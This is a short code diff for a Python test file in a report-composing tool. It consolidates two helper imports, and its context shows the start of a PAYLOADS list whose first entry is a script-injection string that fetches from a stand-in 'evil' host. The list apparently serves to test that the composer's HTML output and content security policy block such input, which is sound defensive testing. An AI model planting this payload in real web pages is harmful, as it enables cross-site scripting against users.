@@ -7,8 +7,7 @@ import pytest
 from mcp_local.report.compose import CONTENT_SECURITY_POLICY, Draft, compose_report
 from mcp_local.report.markdown import parse_markdown, render_tokens
 from mcp_local.sources import Source
-from tests.mcp_local.report.drafts import DAY, SOURCES, source
-from tests.mcp_local.report.reading import Element, read_html
+from tests.mcp_local.report.reading import DAY, SOURCES, Element, read_html, source
 
 PAYLOADS = [
     "<script>fetch('//evil')</script>",
